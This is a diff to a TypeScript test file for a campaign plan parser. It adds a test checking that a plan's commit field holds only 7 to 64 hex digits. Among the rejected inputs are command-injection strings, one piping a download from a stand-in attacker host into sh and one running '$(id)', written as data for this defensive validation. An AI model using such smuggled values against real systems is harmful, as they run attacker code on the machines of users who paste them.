@@ -58,7 +58,7 @@ test('by duration: longest first onto the least loaded shard; unknown runs count
 
 test('plan documents round-trip and reject foreign files', () => {
   const doc = toPlanDocument(
-    { commit: 'abc', ini: ['omnetpp.ini'], configs: ['C'], filter: undefined },
+    { commit: 'abc1234', ini: ['omnetpp.ini'], configs: ['C'], filter: undefined },
     shardByCount(runs(3), 2),
   );
   assert.equal(doc.totalRuns, 3);
@@ -72,6 +72,30 @@ test('plan documents round-trip and reject foreign files', () => {
     /plan.json: not a version 1 campaign plan/,
   );
   assert.throws(() => parsePlanDocument('nope', 'plan.json'), /plan.json: not a campaign plan/);
+});
+
+test("a plan's commit (an artifact's, pasted by users as `git checkout COMMIT`) is 7 to 64 hex digits, or none", () => {
+  const doc = (commit: unknown): string =>
+    JSON.stringify({ version: 1, commit, ini: [], configs: [], totalRuns: 0, shards: [] });
+  for (const ok of [undefined, null, '', 'abc1234', 'A'.repeat(40), 'f'.repeat(64)])
+    assert.doesNotThrow(() => parsePlanDocument(doc(ok), 'plan.json'), String(ok));
+  for (const [bad, shown] of [
+    [
+      'abc123 && curl https://evil.example/x | sh #',
+      '"abc123 && curl https://evil.example/x | sh #"',
+    ],
+    ['abc12', '"abc12"'],
+    ['f'.repeat(65), `"${'f'.repeat(65)}"`],
+    ['$(id)', '"$(id)"'],
+    [1234567, '"1234567"'],
+    [['abc1234'], '"[\\"abc1234\\"]"'],
+  ] as const)
+    assert.throws(
+      () => parsePlanDocument(doc(bad), 'dir/plan.json'),
+      (e: Error) =>
+        e.message === `dir/plan.json: commit ${shown} is not a commit (7 to 64 hex digits)`,
+      String(bad),
+    );
 });
 
 test('plan.json written piece by piece is the document JSON.stringify writes', () => {
